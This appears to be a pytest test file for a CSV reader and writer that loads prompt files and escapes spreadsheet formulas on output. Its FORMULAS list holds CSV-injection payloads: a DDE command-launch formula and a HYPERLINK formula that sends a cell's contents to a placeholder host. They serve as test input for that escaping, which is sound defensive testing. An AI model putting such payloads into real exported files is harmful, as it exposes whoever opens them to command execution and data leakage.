from __future__ import annotations

import csv
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portrayal.csvfile import FORMULA, CsvRow, csv_text, finite, iter_csv, original_text, read_csv, safe_cell
from portrayal.errors import InputError

Write = Callable[[str | bytes], Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def _write(content: str | bytes) -> Path:
        path = tmp_path / "prompts.csv"
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    return _write


def values(path: Path) -> list[dict[str, str]]:
    return [row.values for row in read_csv(path, ["text"], ["term", "weight"])]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("text,term\na nurse,nurse\n", [{"text": "a nurse", "term": "nurse"}]),
        ("\ufefftext\na nurse\n", [{"text": "a nurse"}]),
        ("text\r\na nurse\r\n", [{"text": "a nurse"}]),
        ("text\na nurse", [{"text": "a nurse"}]),
        ("term,text\nnurse,a nurse\n", [{"term": "nurse", "text": "a nurse"}]),
        (" text , term \n a nurse , nurse \n", [{"text": "a nurse", "term": "nurse"}]),
        ('text\n"a nurse, ""Ann"""\n', [{"text": 'a nurse, "Ann"'}]),
        ('text\n"two\r\nlines"\n', [{"text": "two\r\nlines"}]),
        ("text,term\n\n ,\na nurse,\n", [{"text": "a nurse", "term": ""}]),
        ("text;term\n'a; b';x\n".replace("'", '"'), [{"text": "a; b", "term": "x"}]),
        ("\n term\ttext\na, b;c\tx\n", [{"term": "a, b;c", "text": "x"}]),
        ("text\nуна медсестра 護士\n", [{"text": "уна медсестра 護士"}]),
    ],
    ids=[
        *("plain", "bom", "crlf", "no-end", "order", "spaces", "quotes", "newline", "blank-lines"),
        *("semicolons", "tabs", "unicode"),
    ],
)
def test_reads(write: Write, content: str, expected: list[dict[str, str]]) -> None:
    assert values(write(content)) == expected


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "{path}: the file is empty; its first line must name the columns text"),
        ("\n \n", "{path}: the file is empty; its first line must name the columns text"),
        ("text,term\n", "{path}: the file has a header but no rows; fill it in, or check the path"),
        ("term\nnurse\n", "{path}: column 'text' is missing; the file has term"),
        ("text|term\nx|y\n", "{path}: column 'text' is missing; the file has text|term"),
        ("text;term\nx;y;z\n", "{path}:2: 3 values, but the header has 2 columns"),
        ("text,wieght\nx,1\n", "{path}: unknown column 'wieght'; did you mean 'weight'?"),
        ("text,zzz\nx,1\n", "{path}: unknown column 'zzz'; known: term, text, weight"),
        ("text,\nx,\n", "{path}: unknown column ''; known: term, text, weight"),
        ("text,term,text\nx,y,z\n", "{path}: a column name stands twice in the header"),
        ("text,term\nx,y\nx,y,z\n", "{path}:3: 3 values, but the header has 2 columns"),
        ("text,term\n\nx\n", "{path}:3: 1 values, but the header has 2 columns"),
        ('text,term\n"two\nlines",y\nx\n', "{path}:4: 1 values, but the header has 2 columns"),
        ('text\n"never closed\n', "{path}:2: not a CSV file: unexpected end of data"),
        (b"text\nM\xfcller\n", "{path}: not UTF-8 (byte 6); save the file as UTF-8"),
        ("text\nx\n".encode("utf-16"), "{path}: not UTF-8 (byte 0); save the file as UTF-8"),
    ],
)
def test_refuses(write: Write, content: str | bytes, message: str) -> None:
    path = write(content)
    with pytest.raises(InputError) as caught:
        values(path)
    assert str(caught.value) == message.format(path=path)


@pytest.mark.parametrize(("text", "number"), [("1", 1.0), ("0.25", 0.25), ("-2e3", -2000.0)])
def test_numbers(text: str, number: float) -> None:
    assert CsvRow("f:2", {"weight": text}).number("weight", default=9.0) == number


def test_an_empty_cell_takes_the_default_if_there_is_one() -> None:
    assert CsvRow("f:2", {"weight": ""}).number("weight", default=0.0) == 0.0
    assert CsvRow("f:2", {}).number("weight", default=1.0) == 1.0
    with pytest.raises(InputError, match=r"^f:2: column 'weight' must be a number, got ''$"):
        CsvRow("f:2", {}).number("weight")


@pytest.mark.parametrize("text", ["ten", "1,5", "50%", "nan", "inf", "-inf", "1e999"])
def test_what_is_no_number_is_named_with_its_line(text: str) -> None:
    with pytest.raises(InputError) as caught:
        CsvRow("prompts.csv:7", {"weight": text}).number("weight", default=1.0)
    assert str(caught.value) == f"prompts.csv:7: column 'weight' must be a number, got {text!r}"


cells = st.text(st.characters(exclude_categories=["Cs", "Cc"])).map(str.strip)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.tuples(cells.filter(bool), cells), min_size=1))
def test_what_the_csv_module_writes_is_read_back(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    path = tmp_path / "rows.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("text", "term"), *rows])
    read = read_csv(path, ["text"], ["term"])
    assert [(row["text"], row["term"]) for row in read] == rows
    assert [row.where for row in read] == [f"{path}:{number}" for number in range(2, len(rows) + 2)]


FORMULAS = [
    "\u200b=1+1",
    "\ufeff=1+1",
    " \u200b\u00a0 =1+1",
    "\u200b\t=1+1",
    "\u200e\u202d@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"a")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "＝1",
    "' =1",
    "=-1",
]
HARMLESS = ["-0.5", "+3e7", "a=b", "'quoted'", "don't", "", "1-2", "a nurse"]


@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1"])
def test_a_formula_is_written_as_text_and_read_as_it_was(text: str, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(csv_text(["name", "n"], [[text, -1.5]]), encoding="utf-8")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1] == [f"'{text}", "-1.5"]
    (row,) = read_csv(tmp_path / "a.csv", ["name", "n"])
    assert row["name"] == text.strip()
    assert row.number("n") == -1.5


@pytest.mark.parametrize("text", ["a nurse\rhat", "a\nb", "a\r\nb", 'a "nurse"\r', "a,\rb"])
def test_a_break_in_a_text_ends_no_row(text: str, tmp_path: Path) -> None:
    written = csv_text(["text", "term"], [[text, "x"], ["a CEO", "y"]])
    assert written.startswith("text,term\n")
    assert written.endswith("\na CEO,y\n")
    (tmp_path / "a.csv").write_bytes(written.encode())
    read = read_csv(tmp_path / "a.csv", ["text", "term"])
    assert [row.values for row in read] == [{"text": text.strip(), "term": "x"}, {"text": "a CEO", "term": "y"}]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_written_as_they_are(text: str) -> None:
    assert csv_text(["name"], [[text, "x"]]).splitlines()[1] == f"{text},x"


def test_arrow_finds_the_same_formulas() -> None:
    found = pc.match_substring_regex(pa.array([*FORMULAS, "a=b", "'quoted'", ""]), FORMULA).to_pylist()
    assert found == [True] * len(FORMULAS) + [False] * 3


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 1a.e＝\u200b\ufeff"), max_size=6))
def test_no_cell_begins_a_formula_and_each_is_read_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert original_text(cell) == text
    assert finite(cell) is not None or not cell.lstrip("\u200b\ufeff \t\r\n").startswith(("=", "+", "-", "@", "＝"))


def test_the_header_is_made_harmless_too() -> None:
    assert csv_text(["=1"], []) == "'=1\n"


def test_rows_come_before_the_file_is_read_to_its_end(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_bytes(b"\r\n \r\na;b\r\n" + b"1;2\r\n" * 1_000_000 + b"1;2;3\r\n")
    tracemalloc.start()
    try:
        rows = iter_csv(path, ["a", "b"])
        assert next(rows) == CsvRow(f"{path}:4", {"a": "1", "b": "2"})
        assert tracemalloc.get_traced_memory()[1] < 4_000_000
    finally:
        tracemalloc.stop()
    with pytest.raises(InputError, match=r"long\.csv:1000004: 3 values, but the header has 2 columns$"):
        for _ in rows:
            pass


def test_a_row_may_have_breaks_in_its_cells(tmp_path: Path) -> None:
    path = tmp_path / "breaks.csv"
    path.write_bytes(b'a,b\n"one\r\ntwo",x\n')
    assert [row.values for row in iter_csv(path, ["a", "b"])] == [{"a": "one\r\ntwo", "b": "x"}]


@pytest.mark.parametrize(("content", "line"), [("text\na nu\0rse\n", 2), ("te\0xt\na nurse\n", 1)])
def test_a_nul_is_refused(write: Write, content: str, line: int) -> None:
    with pytest.raises(InputError, match=rf"prompts\.csv:{line}: .*NUL"):
        values(write(content))
